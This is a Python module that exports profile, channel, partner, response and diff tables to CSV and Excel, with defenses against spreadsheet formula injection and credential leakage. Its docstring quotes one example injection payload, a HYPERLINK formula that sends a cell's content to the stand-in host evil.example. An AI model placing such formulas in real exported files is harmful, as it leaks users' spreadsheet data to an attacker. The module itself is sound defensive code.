"""Tables to files: the profiles as CSV, the estate's four tables as an Excel workbook, a
diff's changes as CSV (`diff_csv_frame`, which `iptoolkit diff --format csv` writes too).

Names come from whoever configures the platform, and a spreadsheet runs a cell that starts
with `=` as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")`). In `.xlsx`
every string is written as a string, never a formula. A CSV file has no types: by default
a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return, at its start or
after a line break in it, gets a leading `'` there (`support/csvio.py`: OWASP's advice on
CSV injection), which spreadsheets show as text; `csv_safe=False` writes every value
exactly as the platform holds it, for programs that read the file. Either way a cell
holding a line break is quoted (`frame_csv`), so that no reader starts a row inside it.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

from ..support.csvio import FORMULA_PREFIXES, csv_safe
from ..support.printable import drop_unprintable, escape_unprintable
from ..support.replacing import replaced_when_written
from .attributes import redact_text

if TYPE_CHECKING:
    import pandas

    from ..change.estate_diff import EstateDiff
    from ..core.estate import Estate, FrameKind

__all__ = [
    "write_csv",
    "write_xlsx",
    "diff_csv_frame",
    "SHEETS",
    "FORMULA_PREFIXES",
    "csv_safe",
    "csv_safe_frame",
    "frame_csv",
    "write_frame_csv",
]

SHEETS: tuple[FrameKind, ...] = ("profiles", "channels", "partners", "responses")
_EXACT_IN_EXCEL = 2**53  # Excel keeps numbers as doubles


def frame_csv(frame: pandas.DataFrame) -> str:
    """`frame` as pandas writes it to CSV (no index column), but every cell holding a line
    break quoted and every row ended by `\n`, as `support.csvio.csv_text` writes rows."""
    text = frame.to_csv(index=False, lineterminator="\r\n")  # pandas formats the values
    # Both characters in the writer's line ending: pandas (the standard library's writer)
    # quotes every cell holding either, as `csv_text` does. Only each row's end becomes
    # `\n`: a `\r\n` outside quotes (a quoted cell's own, its `"` doubled, stays). Not read
    # back with the `csv` module, whose field limit (128 KiB) refused a long name.
    parts = text.split('"')
    parts[::2] = [part.replace("\r\n", "\n") for part in parts[::2]]
    return '"'.join(parts)


def write_frame_csv(frame: pandas.DataFrame, path: str | os.PathLike[str]) -> Path:
    """`frame_csv(frame)` written to `path` as UTF-8, line breaks as they are."""
    path = Path(path)
    text = frame_csv(frame)
    with replaced_when_written(path) as part:
        part.write_text(text, encoding="utf-8", newline="")
    return path


def csv_safe_frame(frame: pandas.DataFrame) -> pandas.DataFrame:
    """A copy of `frame` with `csv_safe` applied to every text column (lists as text)."""
    import pandas as pd

    frame = frame.copy()
    for column in frame.columns:
        series = frame[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            frame[column] = series.map(csv_safe)
    return frame


def write_csv(estate: Estate, path: str | os.PathLike[str], *, csv_safe: bool = True) -> Path:
    """The profiles table (`estate.to_frame("profiles")`) as UTF-8 CSV, no index column;
    `csv_safe`: formula-like values prefixed with `'` (see the module)."""
    path = Path(path)
    frame = _clean(estate.to_frame("profiles"), excel=False)
    if csv_safe:
        frame = csv_safe_frame(frame)
    return write_frame_csv(frame, path)


def write_xlsx(estate: Estate, path: str | os.PathLike[str]) -> Path:
    """One sheet per table (profiles, channels, partners, responses), header row frozen.
    Its steps (the sheets, counted, then the workbook saved: 57 s at 100k) show on the
    command line's bar, or on one of their own once the work has run 2 s."""
    from ..support.extras import require
    from ..support.progress import progress_scope

    require("excel")  # pandas writes .xlsx with openpyxl
    import pandas as pd

    path = Path(path)
    with progress_scope(None) as progress:
        progress.stage("Making the tables")
        frames = {sheet: _clean(estate.to_frame(sheet), excel=True) for sheet in SHEETS}
        progress.stage("Writing the sheets", total=len(frames))
        with (  # an error leaves no half a workbook
            replaced_when_written(path, suffix=".xlsx") as part,
            pd.ExcelWriter(part, engine="openpyxl") as writer,
        ):
            for sheet, frame in frames.items():
                frame.to_excel(writer, sheet_name=sheet, index=False, freeze_panes=(1, 0))
                _strings_stay_strings(writer.sheets[sheet])
                _fit_columns(writer.sheets[sheet], frame)
                progress.advance()
            progress.stage(f"Saving {path.name}")  # the writer saves as the block ends
    return path


def _strings_stay_strings(sheet: Any) -> None:
    """openpyxl takes a string starting with `=` for a formula: make every such cell a
    string again, so a name is shown, never run."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def _clean(frame: pandas.DataFrame, *, excel: bool) -> pandas.DataFrame:
    """Strings without credentials in URLs; for Excel also no control characters, no time
    zones (Excel has none: UTC is kept, as naive times) and big integers as text."""
    import pandas as pd

    frame = frame.copy()
    for column in frame.columns:
        series = frame[column]
        if isinstance(series.dtype, pd.DatetimeTZDtype):
            if excel:
                frame[column] = series.dt.tz_convert("UTC").dt.tz_localize(None)
        elif pd.api.types.is_integer_dtype(series.dtype):
            known = series.dropna()  # none at all: max() is NA, no answer
            if excel and len(known) and known.abs().max() >= _EXACT_IN_EXCEL:
                frame[column] = series.astype("string")
        elif series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            frame[column] = series.map(lambda value: _text(value, excel))
    return frame


def _text(value: Any, excel: bool) -> Any:
    if isinstance(value, str):
        value = redact_text(value)
        return drop_unprintable(value) if excel else value  # XML 1.0 refuses the rest
    if excel and isinstance(value, int) and not isinstance(value, bool):
        return str(value) if abs(value) >= _EXACT_IN_EXCEL else value
    return value


def _fit_columns(sheet: Any, frame: pandas.DataFrame) -> None:
    from openpyxl.utils import get_column_letter

    for index, column in enumerate(frame.columns, start=1):
        sample = [str(column), *(str(v) for v in frame[column].head(200).tolist())]
        width = min(max(len(text) for text in sample) + 2, 60)
        sheet.column_dimensions[get_column_letter(index)].width = width


def diff_csv_frame(diff: EstateDiff, *, csv_safe: bool = True) -> pandas.DataFrame:
    """The diff's frame as its CSV holds it: every text with its control characters as
    escapes (an id's `\\r` or ESC), formulas neutralised when `csv_safe`. Values in a diff
    are masked already (`change.estate_diff`)."""
    frame = diff.to_frame()
    for column in frame.columns:
        frame[column] = frame[column].map(
            lambda value: escape_unprintable(value) if isinstance(value, str) else value
        )
    return csv_safe_frame(frame) if csv_safe else frame
